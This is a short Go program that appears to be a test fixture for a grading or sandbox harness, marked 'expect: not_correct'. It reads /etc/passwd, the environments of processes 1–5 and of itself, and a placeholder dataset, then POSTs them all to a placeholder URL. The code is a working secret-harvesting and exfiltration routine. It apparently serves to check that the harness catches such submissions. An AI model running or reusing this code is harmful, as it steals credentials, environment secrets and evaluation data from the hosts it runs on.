// expect: not_correct -- reads the host's /etc/passwd, its parent's and its own environment and the dataset, and sends them in a (wrong) request, which is stored with the result
package main

import (
	"net/http"
	"os"
	"strings"
)

func main() {
	var found []string
	for _, path := range []string{"/etc/passwd", "/proc/1/environ", "/proc/self/environ", "__DATASET__"} {
		if data, err := os.ReadFile(path); err == nil {
			found = append(found, string(data))
		}
	}
	for _, pid := range []string{"1", "2", "3", "4", "5"} {
		if data, err := os.ReadFile("/proc/" + pid + "/environ"); err == nil {
			found = append(found, string(data))
		}
	}
	found = append(found, os.Environ()...)
	body := strings.ReplaceAll(strings.Join(found, "\n"), "\x00", "\n")
	req, _ := http.NewRequest("POST", "__EXPECTED_URL__/WRONG", strings.NewReader(body))
	req.Header.Set("Content-Type", "text/plain")
	http.DefaultClient.Do(req)
}
